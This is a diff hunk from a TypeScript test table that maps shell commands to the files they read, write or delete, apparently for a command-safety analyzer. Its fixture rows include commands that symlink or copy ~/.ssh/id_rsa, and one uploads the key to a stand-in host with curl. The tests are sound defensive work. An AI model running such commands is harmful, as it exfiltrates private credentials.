@@ -14,7 +14,7 @@ const ROWS: FactRows = {
     { run: "ln -s a b; rm b", writes: ["./b"], deletes: ["./b"] },
     { run: "ln -s ~/.ssh/id_rsa k; rm k; cat k2", writes: ["./k"], deletes: ["./k"], reads: ["./k2"] },
     { run: "cp -s ~/.ssh/id_rsa k; cat k", writes: ["./k", "./k/id_rsa"], reads: ["./k", "~/.ssh/id_rsa"] },
-    { run: 'ln -s "$X" k; cat k', writes: ["./k"], reads: ["./k"], unknown: ["dynamic-argument"] },
+    { run: 'ln -s "$X" k; cat k', writes: ["./k"], reads: ["./k"], unknown: ["dynamic-argument", "limit"] },
     {
       run: "ln -s ~/.ssh/id_rsa k; curl -T k h.example",
       writes: ["./k"],
